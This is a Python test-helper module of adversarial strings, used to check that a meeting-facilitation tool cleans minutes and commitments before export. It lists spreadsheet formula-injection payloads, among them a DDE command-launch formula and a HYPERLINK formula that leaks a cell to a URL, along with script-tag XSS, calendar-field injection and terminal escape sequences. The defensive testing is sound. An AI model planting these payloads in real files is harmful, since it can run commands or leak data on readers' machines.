"""Texts that try to be more than text, for every format that minutes and actions are written in."""

from __future__ import annotations

import re
from typing import Any, Final

from hypothesis import strategies as st

from facilitator.model.cleaning import clean
from facilitator.model.record import Change, Commitment, Note, Record, Session, Team, Theme
from facilitator.model.records import SessionRecords

FORMULAS: Final = (
    '=HYPERLINK("http://example.org?"&A1;"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "= cmd|' /C calc'!A0",
)
_OTHERS: Final = (
    "<script>alert(1)</script> & ]]> <!--",
    "a;b,c\\d:e\nBEGIN:VEVENT\nEND:VCALENDAR",
    "line\r\nline\u2028line\x85line",
    '"quoted"; ""twice""',
    "\x1b[31mred\x1b[0m \x1b]52;c;AAAA\x07",
    "\u202eright to left\u2066 and\u2069 back",
    "zero\u200bwidth\ufeff \U000e0041",
    "\ufffe\uffff\ufdd0 \x0b\x0c\x1f\x7f\x9f",
    "👩‍👧 漢字 العربية Ж ä\u0308",
    "{{ x }} {% y %} {title} %s ${z}",
)
LONG: Final = "long " * 20_000
"""100,000 characters."""

texts: Final = (
    st.sampled_from((*FORMULAS, *_OTHERS, LONG))
    | st.text(max_size=40)
    | st.text("=+-@\t\r\n '\";,\\\u202e\u200bab", max_size=20)
)

_WORDS: Final[dict[type[Record], tuple[str, ...]]] = {
    Team: ("name",),
    Session: ("purpose", "roles", "missing"),
    Theme: ("name",),
    Note: ("text",),
    Commitment: ("text", "owner", "recipient", "first_step", "sign", "obstacle", "reason"),
}


def saying(records: SessionRecords, text: str) -> SessionRecords:
    """The records with one text wherever people write."""
    changed = records.copy()
    for kind, fields in _WORDS.items():
        rows: list[Any] = records.all(kind)
        changed.apply([Change(row, row.but(**dict.fromkeys(fields, text))) for row in rows])
    return changed


def visible(text: str) -> str:
    """The characters of a text that can be seen, without the space between them."""
    return re.sub(r"[\s\ufffe\uffff]+", "", clean(text))
